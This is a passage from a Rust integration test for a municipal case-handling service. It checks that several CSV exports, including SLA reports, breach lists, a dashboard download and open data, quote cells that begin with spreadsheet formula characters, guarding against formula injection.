/// download and the public open data) writes a formula-looking area as
/// text: quoted, the rest of the cell kept, the numbers still numbers.
/// (Topics are codes of the service catalogue, which cannot look like
/// formulas; areas typed before the districts were known can.)
#[tokio::test]
async fn no_csv_cell_starts_a_formula() -> TestResult {
    let app = TestApp::spawn().await?;
    let aino = app.add_responder("aino", "Aino", &[Language::Fi], DutyStatus::OnDuty).await?;
    let mikko = app.add_responder("mikko", "Mikko", &[Language::Fi], DutyStatus::OnDuty).await?;
    // Five cases per area, so /open shows each area's name.
    for area in FORMULA_AREAS {
        for day in 20..25 {
            let opened: &'static str = Box::leak(format!("2026-10-{day}T10:00:00Z").into_boxed_str());
            insert_planned(&app, mikko.id, &Planned::new(area, "streets", "walk_in", aino.id, opened)).await?;
        }
    }
    let expected = |topic: &str| {
        if topic.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{topic}") } else { topic.to_owned() }
    };
    // Each CSV's cells in the named column: the topics, quoted where they would start a formula.
    let check = |what: &str, csv: &str, column: &str| -> TestResult {
        let (header, lines) = parse_csv(csv)?;
        let at = header.iter().position(|h| h == column).ok_or_else(|| anyhow::anyhow!("{what}: no {column}"))?;
        let mut topics: Vec<&str> = lines.iter().filter_map(|line| line.get(at).map(String::as_str)).collect();
        topics.sort_unstable();
        topics.dedup();
        let mut want: Vec<String> = FORMULA_AREAS.iter().map(|t| expected(t)).collect();
        want.sort_unstable();
        assert_eq!(topics, want, "{what}: {csv}");
        for line in &lines {
            for cell in line {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: {cell:?} starts a formula");
            }
            if let Some(cases) = header.iter().position(|h| h == "cases") {
                assert!(line[cases].parse::<f64>().is_ok(), "{what}: cases {:?} is a number", line[cases]);
            }
        }
        Ok(())
    };
    let week = "from=2026-10-19&to=2026-10-25";
    let lead = app.sign_in("backstop").await?;
    let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/sla?{week}&by=area&format=csv")).await?;
    assert_eq!(status, 200);
    check("the SLA report", &csv, "group")?;
    let (status, _, csv) = lead.get_text(&format!("/api/v1/reports/breaches?{week}&format=csv")).await?;
    assert_eq!(status, 200);
    check("the breaches", &csv, "area")?;

    let mayor = app.add_responder("mayor", "Pormestari", &[Language::Fi], DutyStatus::Off).await?;
    sqlx::query("UPDATE responders SET role = 'mayor' WHERE id = $1").bind(mayor.id).execute(&app.pool).await?;
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build()?;
    let cookie = crate::roles::web_session(&http, &app.console, "mayor").await?;
    let export = http
        .get(format!("{}/dashboard/export?from=2026-10-19&to=2026-10-25&by=area&format=csv", app.console))
        .header("Cookie", &cookie)
        .send()
        .await?;
    assert_eq!(export.status(), 200);
    check("the dashboard's download", &export.text().await?, "group")?;

    let open = app.http.get(format!("{}/open/data.csv?{week}", app.gateway)).send().await?;
    assert_eq!(open.status(), 200);
    let open = open.text().await?;
    let (_, lines) = parse_csv(&open)?;
    let mut cells: Vec<&str> = lines.iter().filter(|l| l[0] == "area").map(|l| l[1].as_str()).collect();
    cells.sort_unstable();
    let mut want: Vec<String> = FORMULA_AREAS.iter().map(|t| expected(t)).collect();
    want.sort_unstable();
    assert_eq!(cells, want, "the open data: {open}");
    for line in &lines {
        for cell in line {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "the open data: {cell:?} starts a formula");
        }
    }
    app.teardown().await
}
